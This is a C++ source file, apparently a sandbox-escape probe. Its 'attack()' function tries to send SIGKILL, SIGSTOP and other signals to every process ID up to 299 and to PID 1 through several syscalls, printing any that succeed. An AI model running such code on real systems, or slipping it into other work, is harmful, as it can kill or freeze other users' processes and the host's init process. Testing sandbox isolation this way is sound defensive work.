#include <cerrno>
#include <csignal>
#include <cstdio>
#include <fcntl.h>
#include <initializer_list>
#include <sys/syscall.h>
#include <unistd.h>

void attack() {
  for (int number : {SIGKILL, SIGSTOP, SIGTERM, SIGCHLD, SIGSEGV}) {
    for (int pid = -1; pid < 300; pid++)
      if (pid != 0 && pid != getpid() && kill(pid, number) == 0) printf("signal %d to %d\n", number, pid);
    siginfo_t info = {};
    info.si_code = SI_QUEUE;
    if (syscall(SYS_rt_sigqueueinfo, 1, number, &info) == 0) puts("queued signal");
    if (syscall(SYS_tgkill, 1, 1, number) == 0) puts("signal to a thread");
    int runner = syscall(SYS_pidfd_open, 1, 0);
    if (syscall(SYS_pidfd_send_signal, runner, number, 0, 0) == 0) puts("signal through a descriptor");
    // A descriptor that sends a signal to its owner when it becomes ready.
    int ends[2];
    if (pipe(ends) == 0 && fcntl(ends[0], F_SETOWN, 1) == 0) {
      fcntl(ends[0], F_SETSIG, number);
      fcntl(ends[0], F_SETFL, O_ASYNC);
      if (write(ends[1], "x", 1) != 1) puts("pipe");
    }
  }
  puts("done");
}
